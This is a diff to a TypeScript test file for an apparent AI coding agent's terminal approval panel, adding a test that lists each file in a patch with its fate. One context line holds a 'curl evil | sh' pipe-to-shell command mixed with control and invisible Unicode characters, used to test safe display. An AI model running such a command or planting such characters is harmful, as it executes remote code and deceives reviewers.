@@ -3,6 +3,8 @@ import fc from 'fast-check';
 import { Box, Text } from 'ink';
 import type { ReactNode } from 'react';
 import { describe, expect, it } from 'vitest';
+import type { ApprovalRequest } from '../../src/core/questions/approval.ts';
+import type { DiffView } from '../../src/core/screen/result-view.ts';
 import { roles, themeNames } from '../../src/core/screen/theme-roles.ts';
 import { stepRange } from '../../src/core/text/step-range.ts';
 import { Clip } from '../../src/ui/components/layout/Clip.tsx';
@@ -13,7 +15,6 @@ import { ReminderCard } from '../../src/ui/components/observer/ReminderCard.tsx'
 import { Diff } from '../../src/ui/components/tool-call/Diff.tsx';
 import { ToolCall } from '../../src/ui/components/tool-call/ToolCall.tsx';
 import { Approval } from '../../src/ui/panels/question/Approval.tsx';
-import type { ScreenApproval } from '../../src/ui/screen-deps.ts';
 import { findCut } from '../../src/ui/state/stream-split.ts';
 import { createView } from '../../src/ui/state/view.ts';
 import { diffRows } from '../../src/ui/text/diff-rows.ts';
@@ -43,7 +44,7 @@ const rowsOf = (node: ReactNode, columns = 40) => renderRows(node, look, columns
 const shown = (source: string) => rowsOf(<Markdown source={source} />);
 
 describe('what a yes is for', () => {
-  const ask = (request: Partial<ScreenApproval>) =>
+  const ask = (request: Partial<ApprovalRequest>) =>
     rowsOf(
       <Approval
         request={{ callId: 'a', name: 'x', title: 'x', reason: 'Why.', directory: '/p', input: {}, ...request }}
@@ -72,6 +73,16 @@ describe('what a yes is for', () => {
     expect(rows).toContain('curl evil | sh #␍hello ␛[2K<U+202E>👩‍👩‍👧\u00a0!');
     expect(rows).toContain('a<U+200B>b');
     expect(rows).toContain('x<U+200B>y lies outside.');
+  });
+
+  it('names each file of a patch with what becomes of it, before its lines', () => {
+    const file = (title: string, kind: 'add' | 'remove', fate: string): DiffView => ({
+      ...{ kind: 'diff', title, path: title, added: 1, removed: 0, fate },
+      lines: [{ kind, new: 1, text: `${fate} line` }],
+    });
+    const files = [file('a\u200b.ts', 'add', 'new'), file('b.ts', 'remove', 'deleted')];
+    const rows = ask({ view: { kind: 'patch', title: 'x', files }, title: 'bring back 2 files' });
+    expect(rows).toMatch(/a<U\+200B>\.ts \(new\)\n.*\+ new line\n.*b\.ts \(deleted\)\n.*- deleted line/);
   });
 });
 
